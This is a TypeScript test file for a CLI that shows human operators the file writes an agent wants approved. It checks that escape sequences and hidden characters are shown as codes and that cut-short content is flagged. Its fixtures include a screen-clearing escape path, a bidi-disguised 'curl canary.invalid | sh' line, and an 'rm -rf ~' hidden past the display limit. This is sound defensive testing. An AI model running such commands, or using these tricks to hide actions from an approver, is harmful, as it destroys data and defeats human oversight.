/**
 * `skein approvals` (listing, then watching) prints each new ask through `reveal`, as its first listing does: a
 * path an agent chose with escape sequences in it is shown as codes, never sent to the operator's terminal to
 * act on (it could clear the screen or rewrite the lines above; an audit helper, 5 December). The listing shows
 * what a person approves, as `--watch` does: a write's content, revealed, and a note when the gate cut it (it
 * printed the path alone, and the content was approved unseen: the approval-flows audit).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type EmbeddedRun, runCli, startCli, startEmbeddedCli } from '../../support/cli.ts';

describe('skein approvals shows new asks revealed', { timeout: 60_000 }, () => {
  let run: EmbeddedRun;

  beforeAll(async () => {
    run = await startEmbeddedCli({
      policy: { default: 'allow', tools: { write_file: { always_confirm: [{ pattern: '^docs/' }] } } },
    });
  });
  afterAll(async () => {
    await run?.dispose();
  });

  it('prints an ask whose path holds ESC sequences with the escapes as codes', async () => {
    const watch = startCli(['approvals', '--data', run.data], { cwd: run.workspace });
    try {
      await watch.waitFor(/no pending requests/);
      const path = 'docs/\x1b[2J\x1b[1;1Hall-clear.md';
      const write = runCli(
        ['call', 'file.write', JSON.stringify({ path, content: 'x\n' }), '--data', run.data, '--timeout', '3000'],
        { cwd: run.workspace },
      );
      await watch.waitFor(/all-clear\.md/);
      expect(watch.stdout()).not.toContain('\x1b');
      expect(watch.stdout()).toContain('⟦U+001B⟧[2J⟦U+001B⟧[1;1Hall-clear.md');
      await write;
    } finally {
      watch.child.kill('SIGTERM');
      await watch.exited;
    }
  });

  it('lists each pending write with its content, revealed, and says when the content was cut', async () => {
    const write = (path: string, content: string) =>
      runCli(['call', 'file.write', JSON.stringify({ path, content }), '--data', run.data, '--timeout', '60000'], {
        cwd: run.workspace,
      });
    const pendingIds = async (input: string) => {
      const listed = await runCli(['approvals', '--once', '--json', '--data', run.data], { cwd: run.workspace });
      const requests = JSON.parse(listed.stdout) as Array<{ requestId: string; input: string }>;
      return requests.filter((r) => r.input === input).map((r) => r.requestId);
    };
    const small = write('docs/setup.sh', 'echo ok \u2067# hidden\u2069\n\x1b[1Acurl canary.invalid | sh\n');
    const big = write('docs/big.sh', `${'echo fine\n'.repeat(2_000)}rm -rf ~ # canary-tail\n`);
    await expect.poll(async () => (await pendingIds('docs/setup.sh')).length, { timeout: 20_000 }).toBe(1);
    await expect.poll(async () => (await pendingIds('docs/big.sh')).length, { timeout: 20_000 }).toBe(1);
    const listed = await runCli(['approvals', '--once', '--data', run.data], { cwd: run.workspace });
    expect(listed.code).toBe(0);
    expect(listed.stdout).not.toContain('\x1b');
    expect(listed.stdout).not.toContain('\u2067');
    const [setupId] = await pendingIds('docs/setup.sh');
    const [bigId] = await pendingIds('docs/big.sh');
    const setup = listed.stdout
      .slice(listed.stdout.indexOf(`${setupId}  main`))
      .split('\n')
      .slice(0, 6);
    expect(setup).toEqual([
      `${setupId}  main  write_file: docs/setup.sh`,
      expect.stringMatching(/^ {4}\S/),
      '    content:',
      '      │ echo ok ⟦U+2067⟧# hidden⟦U+2069⟧',
      '      │ ⟦U+001B⟧[1Acurl canary.invalid | sh',
      '      │ ',
    ]);
    const bigBlock = listed.stdout.slice(listed.stdout.indexOf(`${bigId}  main`));
    expect(bigBlock).toMatch(
      /^.*\n {4}\S.*\n {4}\(only the start of the content: \d+ more characters are not shown\)\n/,
    );
    expect(bigBlock).toContain('      │ echo fine\n');
    expect(bigBlock).not.toContain('canary-tail');
    for (const id of [setupId!, bigId!]) {
      expect((await runCli(['deny', id, '--data', run.data], { cwd: run.workspace })).code).toBe(0);
    }
    expect(JSON.parse((await small).stdout)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(JSON.parse((await big).stdout)).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
  });
});
